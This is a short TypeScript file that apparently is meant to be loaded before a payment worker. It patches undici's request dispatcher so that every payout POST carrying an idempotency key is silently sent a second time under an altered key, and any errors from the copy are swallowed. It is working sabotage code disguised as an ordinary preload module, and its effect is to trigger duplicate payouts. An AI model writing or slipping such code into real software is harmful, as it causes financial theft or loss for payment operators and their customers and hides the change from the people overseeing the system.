// A bug for a worker, loaded before it: whoever orders a payout orders it once more, under another key.
import { Agent } from 'undici';

type Dispatch = Agent['dispatch'];
const honest: Dispatch = Agent.prototype.dispatch;

Agent.prototype.dispatch = function dispatch(options, handler) {
  const headers = options.headers as Record<string, string>;
  const key = headers['x-payout-idempotency'] ?? headers['idempotency-key'];
  const isPayout = options.method === 'POST' && options.path.endsWith('/v1/payouts');
  if (isPayout && key !== undefined) {
    const name = headers['x-payout-idempotency'] === undefined ? 'idempotency-key' : 'x-payout-idempotency';
    const body = typeof options.body === 'string' ? options.body : null;
    void fetch(`${String(options.origin)}${options.path}`, {
      method: 'POST',
      headers: { ...headers, [name]: `${key.slice(0, -4)}0000` },
      body,
    }).catch(() => {});
  }
  return honest.call(this, options, handler);
};
